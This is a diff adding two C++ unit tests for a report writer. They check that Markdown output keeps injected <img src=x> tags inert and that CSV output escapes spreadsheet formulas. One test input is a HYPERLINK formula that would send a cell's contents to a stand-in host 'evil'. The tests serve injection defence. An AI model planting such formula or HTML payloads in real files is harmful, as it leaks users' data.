@@ -46,6 +46,26 @@ TEST(Report, TextFromModelsIsInertInMarkdownAndSvg) {
   EXPECT_EQ(history_svg(contents).find("<script"), std::string::npos);
 }
 
+// An empty line ends what stands in backticks.
+TEST(Report, CodeOfSentencesStaysOnOneLineInMarkdown) {
+  Json contents = hostile_contents();
+  contents["advice"] = {"The layers are: `\n\n<img src=x>\n\n`, `\r\r<img src=x>` (1 %)."};
+  const std::string text = writers::table().make("markdown")->write({contents});
+  EXPECT_NE(text.find("`  <img src=x>  `, `  <img src=x>`"), std::string::npos) << text;
+}
+
+// A spreadsheet would compute them.
+TEST(Report, FormulasAreTextInCsv) {
+  auto trials = grid_trials();
+  trials[0].user_attributes["metrics"] = {{"=HYPERLINK(\"http://evil/?\"&A1)", 1.0}, {"-2+3", -4.0}};
+  trials[1].user_attributes["error"] = "@SUM(A1)";
+  const std::string text = writers::table().make("csv")->write({contents_of(small_result(), trials, Json::object())});
+  EXPECT_NE(text.find("\"'=HYPERLINK(\"\"http"), std::string::npos) << text;
+  EXPECT_NE(text.find(",'-2+3"), std::string::npos);
+  EXPECT_NE(text.find(",'@SUM(A1)"), std::string::npos);
+  EXPECT_NE(text.find(",-4.0"), std::string::npos) << "numbers stay numbers";
+}
+
 TEST(Report, PageNeedsNoNetworkAndNamesTheLicence) {
   const std::string page = writers::table().make("html")->write({contents_of(small_result(), grid_trials(), Json::object())});
   EXPECT_EQ(page.find("src=\"http"), std::string::npos);
